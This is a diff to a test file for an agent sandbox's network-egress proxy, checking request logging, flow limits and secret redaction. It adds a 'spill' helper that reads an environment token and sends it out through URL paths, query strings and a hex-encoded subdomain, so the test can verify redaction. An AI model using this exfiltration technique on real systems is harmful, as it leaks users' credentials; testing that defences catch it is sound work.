@@ -5,8 +5,10 @@ import https from 'node:https'
 import type { AddressInfo } from 'node:net'
 import path from 'node:path'
 import tls from 'node:tls'
+import { layout } from '@cardinal/kernel'
 import { parseManifests } from '@cardinal/manifests'
 import { bundleProgram } from '@cardinal/sdk/bundle'
+import { localKey, newVaultKey } from '@cardinal/secrets'
 import { isRange } from '@cardinal/tools'
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
 import { EgressCa } from '../../packages/tools/src/egress-ca.ts'
@@ -32,6 +34,13 @@ const once = {
   connect: ({ host, port, path }) => new Promise((resolve) => { const s = net.connect(path ? { path } : { host, port }); s.on('connect', () => resolve({ connected: true })); s.on('error', (e) => resolve(error(e))) }),
   lookup: ({ name }) => new Promise((resolve) => dns.lookup(name, (e, address) => resolve(e ? error(e) : { address }))),
   raw: ({ text }) => new Promise((resolve) => { let all = ''; const s = net.connect(3128, '127.0.0.1', () => s.write(text)); s.on('data', (d) => { all += d; if (/\\r\\n\\r\\n/.test(all)) s.end() }); s.on('close', () => resolve({ said: all.split('\\r\\n')[0] })); s.on('error', (e) => resolve(error(e))) }),
+  spill: async ({ base }) => {
+    const s = process.env.TOKEN, e = encodeURIComponent(s)
+    const urls = [base + '/ok/' + s, base + '/not/' + s + '?' + e + '=1', base + '/ok/1?key=' + e, 'http://' + Buffer.from(s).toString('hex') + '.example/']
+    const spilt = []
+    for (const url of urls) spilt.push(await fetch(url).then((r) => r.status, () => 0))
+    return { spilt }
+  },
   look: () => ({ door: require('node:fs').readdirSync('/run/cardinal/door').sort(), env: Object.keys(process.env).filter((n) => /proxy/i.test(n)).length }),
 }
 Promise.all(said.map((one) => Promise.resolve(once[one.do](one)).catch(error))).then((all) => console.log(JSON.stringify(all)))
@@ -99,6 +108,7 @@ beforeAll(async () => {
   for (const server of [plain, secure])
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
   t = await openTestKernel([], {
+    vaultKey: localKey(newVaultKey()),
     tools: [{ ...functionTool('db.read', 'read', () => 'rows'), yields: ['private'] }],
   })
   await applyZone(t.kernel, '127.0.0.1', '127.0.0.0/8')
@@ -111,6 +121,7 @@ beforeAll(async () => {
   const tools = [
     tool('net.open', node(egress)),
     tool('net.shut', node()),
+    tool('net.secret', { ...node(egress), secret: { ref: 'way-token', env: 'TOKEN' } }),
     ...(has('curl')
       ? [
           tool('net.curl', {
@@ -133,7 +144,11 @@ beforeAll(async () => {
         ]
       : []),
   ].join('')
-  const now = ['{ tool: net.*, args: "*" }', '{ tool: db.read, args: "*", flow: [log, "caller:*"] }']
+  const now = [
+    ...['open', 'shut', 'curl', 'git'].map((name) => `{ tool: net.${name}, args: "*" }`),
+    '{ tool: net.secret, args: "*", secret: way-token }',
+    '{ tool: db.read, args: "*", flow: [log, "caller:*"] }',
+  ]
   const agent = `---\napiVersion: cardinal/v1\nkind: Agent\nmetadata: { tenant: acme, name: teller }\nspec:\n  program: x\n  card:\n    now:\n${now.map((g) => `      - ${g}\n`).join('')}`
   const manifests = parseManifests(`${tools}${agent}`, 'net.yaml', {
     isRange,
@@ -181,6 +196,8 @@ describe.runIf(hasSandbox)('a program that has a way out', () => {
     expect(first).toMatchObject({ status: 200, text: 'plain GET /ok/1?q=a&q=b' })
     expect(second).toMatchObject({ status: 200, text: 'secure GET /deep/2' })
     expect(posted).toMatchObject({ status: 200, text: 'secure POST /up' })
+    // For a host that no grant names there is no tunnel even.
+    for (const last of [no.pop(), no.pop()]) expect(last?.status).not.toBe(200)
     expect(no.map(({ status }) => status)).toEqual(no.map(() => 403))
     expect(no[0]?.text).toContain('the card of this tool does not allow GET')
     expect(came.map(({ at, method, url }) => `${at} ${method} ${url}`).sort()).toEqual([
@@ -234,7 +251,11 @@ describe.runIf(hasSandbox)('a program that has a way out', () => {
   })
 
   it('has each request on record before it leaves, refused ones too', async () => {
-    await inside('net.open', { do: 'fetch', url: http1('/ok/here') }, { do: 'fetch', url: http1('/not') })
+    await inside(
+      'net.open',
+      { do: 'fetch', url: http1('/ok/here?q=what') },
+      { do: 'fetch', url: http1('/not') },
+    )
     const lines = (await t.kernel.view.history('acme/teller/a', { limit: 40 })) as {
       text: string
       detail?: unknown
@@ -242,14 +263,28 @@ describe.runIf(hasSandbox)('a program that has a way out', () => {
     const said = lines.filter(({ text }) => text.startsWith('the program of '))
     expect(JSON.stringify(said)).toMatch(/asks: allow".*"path":\["ok","here"\]/)
     expect(JSON.stringify(said)).toMatch(/asks: refuse".*"path":\["not"\]/)
+    expect(JSON.stringify(said)).toContain('query.q')
+    expect(JSON.stringify(said)).not.toContain('what')
   })
 
-  it('is a sink: what its agent has read stays where it may flow', async () => {
+  it('67: is a sink: what its agent has read stays where it may flow', async () => {
     expect(await use('net.shut', { said: '[]' }, 'b')).toMatchObject({ ok: true, value: [] })
     expect(await use('net.open', { said: '[]' }, 'b')).toMatchObject({ ok: true, value: [] })
     expect(await use('db.read', {}, 'b')).toMatchObject({ ok: true })
     expect(await use('net.open', { said: '[]' }, 'b')).toMatchObject({ ok: false, by: 'flow' })
     expect(await use('net.shut', { said: '[]' }, 'b')).toMatchObject({ ok: true, value: [] })
+  })
+
+  it('45: never writes its secret into the record, wherever it puts it', async () => {
+    const secret = 'canary-5Rw1/of the way out'
+    await t.kernel.secrets.set('acme', 'way-token', Buffer.from(secret), 'it')
+    const done = await inside('net.secret', { do: 'spill', base: http1('') })
+    expect(done).toEqual([{ spilt: [200, 403, 200, 0] }])
+    expect(came).toHaveLength(2)
+    const lines = JSON.stringify(await t.kernel.view.history('acme/teller/a', { limit: 20 }))
+    expect(lines).toContain('[secret way-token]')
+    for (const form of [secret, encodeURIComponent(secret), Buffer.from(secret).toString('hex'), 'canary'])
+      expect(lines).not.toContain(form)
   })
 
   it.runIf(has('curl'))('is what curl uses by itself', async () => {
@@ -268,7 +303,7 @@ describe.runIf(hasSandbox)('a program that has a way out', () => {
   })
 
   it('leaves nothing behind', () => {
-    expect(fs.readdirSync('/tmp').filter((name) => name.startsWith('cardinal-door-'))).toEqual([])
+    expect(fs.readdirSync(layout(t.data).doors)).toEqual([])
   })
 })
 
@@ -278,6 +313,8 @@ describe('a way out as a manifest writes it', () => {
     ['a tool', [{ host: 'a.example', tool: 'bank.pay' }], 'spec.cli.egress[0].tool'],
     ['a public suffix', [{ host: '*.github.io' }], 'anybody may have a name below'],
     ['nothing', [], 'spec.cli.egress'],
+    ['everywhere', [{ host: '*' }], 'spec.cli.egress[0].host: a program has no way out to everywhere'],
+    ['an address in another form', [{ host: '0x7f.1' }], 'it is written `127.0.0.1`'],
     ['an odd host', [{ host: 'A.example/' }], 'spec.cli.egress[0].host'],
   ]
   it.each(wrong)('is refused with %s', (_what, egress, says) => {
